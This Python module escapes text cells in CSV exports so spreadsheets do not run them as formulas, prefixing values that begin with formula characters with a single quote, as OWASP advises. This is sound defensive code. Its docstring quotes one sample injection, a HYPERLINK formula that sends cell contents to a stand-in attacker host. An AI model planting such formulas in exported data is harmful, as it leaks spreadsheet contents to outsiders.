"""Text cells of exported spreadsheets that no spreadsheet runs as a formula (issue 13 §5).

A merchant's name, an item's name or a dispute reason that begins with ``=`` (say
``=HYPERLINK("https://evil.example/?"&A1, "details")``) becomes a live formula when a CSV
holding it is opened in Excel, LibreOffice or Google Sheets. OWASP's advice on CSV
injection (owasp.org/www-community/attacks/CSV_Injection): a cell that begins with ``=``,
``+``, ``-``, ``@``, a tab, a carriage return or a line feed gets a single quote in front,
which the spreadsheet takes as "this is text" and does not show. Every CSV writer passes
its rows through ``csv_row``; numbers are left as numbers (``-5`` stays a number).

XLSX needs no prefix: a cell written as a string (XlsxWriter ``write_string``) is text
whatever it begins with, so the XLSX writers never hand user text to ``write``, which
would turn ``=…`` into a formula (``core.settlement.report_files``).
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""What a text cell may not begin with (OWASP's list, with the line feed it added in 2025)."""
TEXT_MARK = "'"


def cell_text(value: str) -> str:
    """``value`` as a CSV text cell: with ``'`` in front when it begins with a formula
    character (``FORMULA_STARTS``), else unchanged. ``'=1+1`` shows as ``=1+1``, as text."""
    return TEXT_MARK + value if value.startswith(FORMULA_STARTS) else value


def csv_row(values: Iterable[object]) -> list[object]:
    """A row for ``csv.writer``: every ``str`` through ``cell_text``, anything else as it is."""
    return [cell_text(v) if isinstance(v, str) else v for v in values]
